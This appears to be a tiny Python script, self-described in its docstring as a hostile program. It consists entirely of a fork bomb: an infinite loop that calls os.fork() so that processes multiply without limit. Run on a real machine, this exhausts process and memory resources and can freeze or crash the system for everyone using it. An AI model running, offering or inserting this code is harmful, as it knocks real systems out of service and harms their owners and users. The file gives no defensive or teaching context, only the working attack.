"""A hostile program: it multiplies until someone stops it."""

import os

while True:
    os.fork()
